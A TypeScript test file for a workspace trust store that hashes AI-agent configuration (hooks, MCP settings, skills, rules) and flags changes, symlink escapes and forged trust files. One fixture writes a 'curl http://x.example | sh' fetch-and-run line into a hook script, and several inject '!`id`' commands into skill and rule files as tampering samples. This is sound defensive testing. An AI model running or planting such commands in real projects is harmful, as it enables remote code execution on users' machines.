import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { readConfiguration, type ConfigurationFile } from './configuration.ts';
import { describeChange } from './describe-change.ts';
import { trustStore } from './trust-store.ts';

interface Place {
  readonly home: string;
  readonly workspace: string;
  readonly write: (path: string, text: string) => void;
  readonly status: () => Promise<string>;
}

function newPlace(): Place {
  const root = mkdtempSync(join(tmpdir(), 'varve-trust-'));
  onTestFinished(() => rmSync(root, { recursive: true }));
  const [home, workspace] = [join(root, 'home'), join(root, 'workspace')];
  mkdirSync(workspace);
  const write = (path: string, text: string): void => {
    mkdirSync(dirname(join(workspace, path)), { recursive: true });
    writeFileSync(join(workspace, path), text);
  };
  const status = async () => trustStore({ home }).status(await readConfiguration(workspace, { home }));
  return { home, workspace, write, status };
}

const hooks = '{"stop": [{"hooks": [{"command": "make test"}]}]}';

async function trusted(place: Place): Promise<void> {
  await trustStore({ home: place.home }).add(await readConfiguration(place.workspace, { home: place.home }));
}

test('a workspace without configuration needs no trust', async () => {
  const place = newPlace();
  place.write('package.json', '{}');
  place.write('AGENTS.md', 'Be brief.');
  expect(await place.status()).toBe('none');
});

test('what a person has trusted is trusted until a byte, a name or a right of it changes', async () => {
  const changes: readonly ((place: Place) => void)[] = [
    ({ write }) => write('.openhands/hooks.json', `${hooks} `),
    ({ write }) => write('.openhands/setup.sh', 'id'),
    ({ write }) => write('.mcp.json', '{}'),
    ({ write }) => write('.agents/skills/x/SKILL.md', '!`id`'),
    ({ write }) => write('.cursor/rules/x.mdc', '!`id`'),
    ({ workspace }) => chmodSync(join(workspace, '.openhands/a.sh'), 0o755),
    ({ workspace }) => rmSync(join(workspace, '.openhands/a.sh')),
    ({ workspace, write }) => {
      write('elsewhere.sh', 'true');
      rmSync(join(workspace, '.openhands/a.sh'));
      symlinkSync('../elsewhere.sh', join(workspace, '.openhands/a.sh'));
    },
  ];
  for (const change of changes) {
    const place = newPlace();
    place.write('.openhands/hooks.json', hooks);
    place.write('.openhands/a.sh', 'true');
    expect(await place.status()).toBe('untrusted');
    await trusted(place);
    expect(await place.status()).toBe('trusted');
    change(place);
    expect(await place.status()).toBe('changed');
  }
});

test('a link counts with the content of the file that it leads to', async () => {
  const place = newPlace();
  place.write('scripts/hook.sh', 'true');
  place.write('.openhands/hooks.json', hooks);
  symlinkSync('../scripts', join(place.workspace, '.openhands/scripts'));
  await trusted(place);
  place.write('scripts/hook.sh', 'curl http://x.example | sh');
  expect(await place.status()).toBe('changed');
});

test.for(['/etc/hostname', '/etc', '../../home', 'missing'])(
  'a link out of the workspace is refused: %s',
  async (target) => {
    const place = newPlace();
    mkdirSync(place.home);
    place.write('.openhands/hooks.json', hooks);
    symlinkSync(target, join(place.workspace, '.openhands/link'));
    const read = readConfiguration(place.workspace, { home: join(place.home, 'other') });
    await expect(read).rejects.toMatchObject({ code: 'invalid' });
  },
);

test('links in a circle are refused', async () => {
  const circle = newPlace();
  circle.write('.varve/config.json', '{}');
  symlinkSync('.', join(circle.workspace, '.varve/again'));
  await expect(readConfiguration(circle.workspace, { home: circle.home })).rejects.toThrow('directories deep');
});

test('a file of more than 1 MB counts by its digest, and does not prevent trust in the others', async () => {
  const place = newPlace();
  place.write('.openhands/hooks.json', hooks);
  place.write('.agents/skills/a/data.csv', 'x'.repeat(1024 * 1024 + 1));
  await trusted(place);
  const before = await readConfiguration(place.workspace, { home: place.home });
  const large = before.files.find(({ path }) => path.endsWith('data.csv'));
  expect([large?.largeSize, large?.bytes.length]).toEqual([1024 * 1024 + 1, 0]);
  expect(describeChange(before.files)).toContain('data.csv (new)\n1048577 bytes that are not shown');
  expect(await trustStore({ home: place.home }).status(before)).toBe('trusted');
  place.write('.agents/skills/a/data.csv', `${'x'.repeat(1024 * 1024)}y`);
  const after = await readConfiguration(place.workspace, { home: place.home });
  expect(await trustStore({ home: place.home }).status(after)).toBe('changed');
});

test('what runs is what was hashed, even if the file changes afterwards', async () => {
  const place = newPlace();
  place.write('.openhands/hooks.json', hooks);
  await trusted(place);
  const configuration = await readConfiguration(place.workspace, { home: place.home });
  place.write('.openhands/hooks.json', '{"stop": "evil"}');
  expect(await trustStore({ home: place.home }).status(configuration)).toBe('trusted');
  expect(new TextDecoder().decode(configuration.read('.openhands/hooks.json'))).toBe(hooks);
});

test('trust is for one workspace, and not for another with the same content', async () => {
  const [left, right] = [newPlace(), newPlace()];
  for (const place of [left, right]) place.write('.openhands/hooks.json', hooks);
  await trusted(left);
  const copy = await readConfiguration(right.workspace, { home: left.home });
  expect(await trustStore({ home: left.home }).status(copy)).toBe('untrusted');
});

test('a link to a workspace means the workspace', async () => {
  const place = newPlace();
  place.write('.openhands/hooks.json', hooks);
  const link = join(dirname(place.workspace), 'link');
  symlinkSync(place.workspace, link);
  await trusted({ ...place, workspace: link });
  expect(await place.status()).toBe('trusted');
});

test('trust in the workspace has no effect: only the data directory of the person counts', async () => {
  const place = newPlace();
  place.write('.openhands/hooks.json', hooks);
  const { hash, workspace } = await readConfiguration(place.workspace, { home: place.home });
  const forged = JSON.stringify({ version: 1, workspaces: { [workspace]: { hash, at: '', files: [] } } });
  for (const path of ['.varve/trust.json', 'trust.json', '.openhands/trust.json']) place.write(path, forged);
  expect(await place.status()).toBe('untrusted');
});

test('a workspace that contains the data directory cannot be trusted, and its data is no configuration', async () => {
  const place = newPlace();
  place.write('.varve/varve.db', 'x');
  place.write('.openhands/hooks.json', hooks);
  const home = join(place.workspace, '.varve');
  const configuration = await readConfiguration(place.workspace, { home });
  expect(configuration.files.map(({ path }) => path)).toEqual(['.openhands/hooks.json']);
  await expect(trustStore({ home }).add(configuration)).rejects.toThrow('contains');
});

test('a script that a hook names is part of the configuration, and parts are trusted by their digests', async () => {
  const place = newPlace();
  place.write('.openhands/hooks.json', hooks);
  place.write('scripts/check.sh', 'true');
  const options = { home: place.home, also: ['scripts/check.sh'] };
  const digest = '1'.repeat(64);
  const store = trustStore(place);
  await store.add(await readConfiguration(place.workspace, options), [digest]);
  const configuration = await readConfiguration(place.workspace, options);
  const statusOf = (part: string) => store.status(configuration, [part]);
  expect([await statusOf(digest), await statusOf('2'.repeat(64))]).toEqual(['trusted', 'changed']);
  place.write('scripts/check.sh', 'id');
  expect(await store.status(await readConfiguration(place.workspace, options))).toBe('changed');
});

test('trust is listed and removed', async () => {
  const place = newPlace();
  place.write('.varve/config.json', '{}');
  await trusted(place);
  const store = trustStore({ home: place.home });
  expect((await store.list()).map(({ workspace }) => workspace)).toEqual([place.workspace]);
  expect([await store.remove(place.workspace), await store.remove(place.workspace)]).toEqual([true, false]);
  expect(await place.status()).toBe('untrusted');
});

test('a change is shown as a difference, and new content whole', async () => {
  const place = newPlace();
  place.write('.openhands/hooks.json', 'one\ntwo\n');
  place.write('.openhands/gone.sh', 'x\n');
  const before = await readConfiguration(place.workspace, { home: place.home });
  expect(describeChange(before.files)).toContain('+two');
  await trusted(place);
  place.write('.openhands/hooks.json', 'one\nthree\n');
  rmSync(join(place.workspace, '.openhands/gone.sh'));
  place.write('.openhands/run.sh', 'id\n');
  chmodSync(join(place.workspace, '.openhands/run.sh'), 0o755);
  const now = await readConfiguration(place.workspace, { home: place.home });
  const stored = await trustStore({ home: place.home }).find(place.workspace);
  expect(describeChange(now.files, stored?.files)).toBe(
    [
      '.openhands/gone.sh (removed)',
      '@@ -1,1 +0,0 @@',
      '-x',
      '.openhands/hooks.json (changed)',
      '@@ -1,2 +1,2 @@',
      ' one',
      '-two',
      '+three',
      '.openhands/run.sh (new, executable)',
      '@@ -0,0 +1,1 @@',
      '+id',
      '',
    ].join('\n'),
  );
});

function file(path: string, text: string, target?: string): ConfigurationFile {
  const bytes = Buffer.from(text);
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  return { path, bytes, sha256, isExecutable: false, ...(target !== undefined && { target }) };
}

test('a file of which too much changed is shown whole, and no mark or name hides a part', () => {
  const text = Array.from({ length: 8000 }, (_, at) => `x${at % 7}\n`).join('');
  const change = describeChange([file('a', text)], [file('a', text.replaceAll('x', 'y'))]);
  expect(change).toBe(`a (changed)\n@@ -0,0 +1,8000 @@\n${text.replaceAll('x', '+x')}`);
  expect(describeChange([file('a', '\uFEFFx\n')])).toBe('a (new)\n@@ -0,0 +1,1 @@\n+\uFEFFx\n');
  expect(describeChange([file('a\nb', '', 'c\nd (new)')])).toBe('"a\\nb" (new, a link to "c\\nd (new)")\n');
});
